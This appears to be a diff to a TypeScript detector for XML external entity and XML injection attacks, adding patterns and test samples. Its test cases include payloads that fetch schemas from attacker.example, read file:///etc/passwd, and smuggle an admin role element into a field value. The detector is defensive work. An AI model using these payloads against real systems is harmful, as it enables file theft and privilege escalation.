@@ -1,17 +1,25 @@
+import { HTML_ELEMENTS } from '../markup/elements.ts';
 import { proseShare } from '../readings/prose.ts';
 import { type Characters, hasAny, marksOf, type Reading } from '../readings/reading.ts';
 import type { Leaf } from '../request/leaf.ts';
 import type { Finding, Signature } from '../signature.ts';
 import { findEntityAttack } from '../xml/entity-attack.ts';
 import { findInclusion } from '../xml/inclusion-attack.ts';
-import { splitMarkup } from '../xml/split-markup.ts';
+import { reopenedElement, splitMarkup } from '../xml/split-markup.ts';
 import { undeclaredEntity } from '../xml/undeclared-entity.ts';
 
 const OPENING = marksOf('<');
-/** Of a declaration, a prefix or a processing instruction. */
-const FURTHER_MARKS = marksOf('!:?&');
+/** Of a declaration, a prefix, a processing instruction, a reference or an end tag. */
+const FURTHER_MARKS = marksOf('!:?&/');
 const LEAST_ARTICLE = 400;
-const DECLARATION = /<!(?:doctype|entity)[\s%&:]/;
+const LONGEST_ELEMENT = 512;
+const DECLARATION = /<!(?:doctype|entity)[\s\u0085%&:]/;
+/** A document by its own start, also as the address of an image that holds it. */
+const DOCUMENT = /^\s{0,16}(?:data:[a-z/+;=-]{0,40},\s{0,8})?<(?:\?xml|svg)\b/;
+/** A value whose first element declares a namespace; Word does so in the HTML that it puts on the clipboard. */
+const NAMESPACED = /^\s{0,16}<(?!html\b)[a-z][^<>]{0,400}\sxmlns[:=](?!["']?urn:schemas-microsoft-com:(?:vml|office))/;
+/** A value that is one small element and its content. */
+const ELEMENT = /^\s{0,16}<([a-z][\w:.-]{0,40})[\s>][\s\S]{0,400}<\/\1\s{0,8}>\s{0,16}$/;
 
 /** XML that makes its reader open files and addresses, or grow without end. */
 export const xxe: Signature = {
@@ -45,6 +53,7 @@ export const xxe: Signature = {
       '<xs:import namespace="urn:x" schemaLocation="http://attacker.example/x.xsd"/>',
       '<?xml-model href="//attacker.example/x.rng"?><r/>',
       { contentType: 'text/xml', body: '<ds:RetrievalMethod URI="file:///etc/passwd"/>' },
+      'ann@example.org</mail><role>admin</role><mail>bo@example.org',
       '<name><![CDATA[<]]>b<![CDATA[>]]>x<![CDATA[</]]>b<![CDATA[>]]></name>',
     ],
     misses: [
@@ -77,6 +86,7 @@ export const xxe: Signature = {
         contentType: 'text/xml',
         body: '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><a/></soap:Body></soap:Envelope>',
       },
+      'first</p><p>second <b>and</b></p><p>third',
       '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h24v24H0z"/></svg>',
       '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
     ],
@@ -87,12 +97,21 @@ export const xxe: Signature = {
   match({ leaf, text, lower }: Reading): Finding | null {
     const entity = DECLARATION.test(lower) ? inProse(leaf, text, findEntityAttack(text, lower)) : null;
     if (entity !== null && entity.confidence > 0.9) return entity;
-    const isDocument = (leaf.kind === 'xml' && leaf.part === 'whole') || /^\s{0,16}<(?:\?xml|svg)\b/.test(lower);
+    const isDocument = (leaf.kind === 'xml' && leaf.part === 'whole') || DOCUMENT.test(lower) || NAMESPACED.test(lower);
     const inclusion = findInclusion(text, lower, isDocument);
     if (inclusion !== null && inclusion.confidence > (entity?.confidence ?? 0)) return inclusion;
-    return entity ?? splitMarkup(lower) ?? (isDocument ? undeclaredEntity(lower) : null);
+    if (entity !== null) return entity;
+    const injected = splitMarkup(lower) ?? (leaf.part === 'value' ? reopenedElement(lower) : null);
+    return injected ?? (isDocument || isElement(lower) ? undeclaredEntity(lower) : null);
   },
 };
+
+/** One element of no language of browsers, which have more entities of their own. */
+function isElement(lower: string): boolean {
+  if (lower.length > LONGEST_ELEMENT || !lower.includes(';')) return false;
+  const name = ELEMENT.exec(lower)?.[1];
+  return name !== undefined && !HTML_ELEMENTS.has(name);
+}
 
 /** In an article or a letter about such attacks a declaration is a quotation. */
 function inProse(leaf: Leaf, text: string, finding: Finding | null): Finding | null {
